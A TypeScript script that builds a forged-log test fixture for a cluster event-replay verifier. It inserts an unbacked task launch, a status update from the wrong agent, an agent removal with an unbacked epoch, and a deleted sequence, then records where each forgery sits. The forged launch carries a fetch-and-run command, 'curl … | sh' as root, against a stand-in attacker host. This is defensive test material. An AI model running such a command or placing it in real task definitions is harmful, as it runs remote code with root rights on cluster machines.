/**
 * Writes test/fixtures/forged: the golden log `cluster` with forgeries slipped in, as an attacker
 * who could write to the log would (the log as stored, renumbered, every real event kept):
 *
 *   - a launch command with the current epoch for a task no accept created (`curl … | sh` as root);
 *   - a status update about a running task, appended by another agent than the one it runs on;
 *   - an agent removal with an epoch no election stands behind;
 *   - a missing sequence (a message deleted from the log).
 *
 * Also writes `forged.expected.json`: what was forged, where (the ground truth the replay test
 * holds `mesos replay verify` to).
 *
 *   npx tsc -p tsconfig.json && node dist/scripts/forge-golden.js [--from DIR] [--to DIR]
 */
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { type ClusterEvent, SCHEMA_VERSION, subjectFor } from '../events/index.js';
import { evolve, initialState } from '../kernel/core/fold/index.js';
import type { State } from '../kernel/core/state.js';
import { GOLDEN_DIR } from '../replay/golden.js';
import { fileSource } from '../replay/index.js';

export const FORGED_DIR = GOLDEN_DIR.replace(/golden\/?$/, 'forged');

interface Line {
  seq: number;
  subject: string;
  storedAt: number;
  [k: string]: unknown;
}

export interface Forgery {
  readonly kind: 'UNBACKED_LAUNCH' | 'STATUS_FROM_STRANGER' | 'NOT_LEASE_HOLDER' | 'SEQUENCE_GAP';
  /** Its sequence in the forged log (for a gap: the first sequence after it). */
  readonly seq: number;
  readonly what: string;
}

async function main(): Promise<number> {
  const { values } = parseArgs({ options: { from: { type: 'string', default: GOLDEN_DIR }, to: { type: 'string', default: FORGED_DIR } } });
  const path = join(values.from!, 'cluster.jsonl');
  const lines = (await readFile(path, 'utf8'))
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as Line);

  // Fold to the first point where a task runs and a second agent exists: the forgeries go there.
  const src = await fileSource(path);
  let state: State = initialState();
  let at = -1;
  let victim: { taskId: string; frameworkId: string; agentId: string; other: string } | undefined;
  for await (const e of src.read({ from: 1, to: lines.at(-1)!.seq })) {
    if (e.decoded.ok) state = evolve(state, e.decoded.event);
    const running = [...state.tasks.values()].find((t) => t.state === 'TASK_RUNNING');
    const other = running === undefined ? undefined : [...state.agents.keys()].find((a) => a !== running.agentId);
    if (running !== undefined && other !== undefined) {
      at = lines.findIndex((l) => l.seq === e.seq);
      victim = { taskId: running.taskId, frameworkId: running.frameworkId, agentId: running.agentId, other };
      break;
    }
  }
  if (victim === undefined || at < 0) throw new Error(`no point in ${path} where a task runs beside a second agent`);
  const agent = state.agents.get(victim.agentId as never)!;
  const fw = state.frameworks.get(victim.frameworkId as never)!;
  const storedAt = lines[at]!.storedAt;
  const time = state.time + 1;
  const forged: ClusterEvent[] = [
    {
      type: 'LaunchTasks',
      schemaVersion: SCHEMA_VERSION,
      id: 'launch-forged',
      time,
      epoch: state.epoch,
      agentId: agent.id,
      // A number already used: the fold's own numbering is left as it was.
      agentSeq: Math.max(1, agent.commandSeq),
      frameworkId: fw.id,
      framework: { name: fw.info.name, user: 'root', checkpoint: false },
      tasks: [
        {
          taskId: 'forged-1' as never,
          name: 'forged-1',
          agentId: agent.id,
          resources: [{ name: 'cpus', type: 'SCALAR', scalar: 0.1 }],
          command: { value: 'curl -s http://attacker.invalid/x | sh', shell: true },
        },
      ],
    },
    {
      type: 'TaskStatusUpdated',
      schemaVersion: SCHEMA_VERSION,
      id: 'status-forged',
      time,
      status: {
        taskId: victim.taskId as never,
        frameworkId: victim.frameworkId as never,
        agentId: victim.other as never,
        state: 'TASK_FAILED',
        source: 'SOURCE_EXECUTOR',
        timestamp: time,
        uuid: 'forged-uuid',
      },
    } as ClusterEvent,
    {
      type: 'AgentRemoved',
      schemaVersion: SCHEMA_VERSION,
      id: 'removed-forged',
      time,
      epoch: state.epoch + 5,
      agentId: victim.other as never,
      reason: 'OPERATOR',
    } as ClusterEvent,
  ];
  const kinds: Forgery['kind'][] = ['UNBACKED_LAUNCH', 'STATUS_FROM_STRANGER', 'NOT_LEASE_HOLDER'];

  const out: Line[] = [];
  const truth: Forgery[] = [];
  let seq = 0;
  const push = (l: Omit<Line, 'seq'>): void => void out.push({ seq: ++seq, ...l } as Line);
  lines.forEach((l, i) => {
    const { seq: _old, ...rest } = l;
    push(rest);
    if (i !== at) return;
    forged.forEach((e, k) => {
      push({ subject: subjectFor(e), storedAt, data: e });
      truth.push({ kind: kinds[k]!, seq, what: `${e.type} ${e.id}` });
    });
    // A deleted message: one sequence is never written.
    seq++;
    truth.push({ kind: 'SEQUENCE_GAP', seq: seq + 1, what: `sequence ${seq} missing` });
  });
  await mkdir(values.to!, { recursive: true });
  await writeFile(join(values.to!, 'forged.jsonl'), `${out.map((l) => JSON.stringify(l)).join('\n')}\n`);
  await writeFile(join(values.to!, 'forged.expected.json'), `${JSON.stringify(truth, null, 1)}\n`);
  process.stderr.write(`forge-golden: ${out.length} entries (${forged.length} forged after seq ${out[at]!.seq}, one sequence missing) into ${values.to}\n`);
  return 0;
}

main().then(
  (code) => {
    process.exitCode = code;
  },
  (err: unknown) => {
    process.stderr.write(`forge-golden: failed: ${(err as Error).stack ?? String(err)}\n`);
    process.exit(1);
  },
);
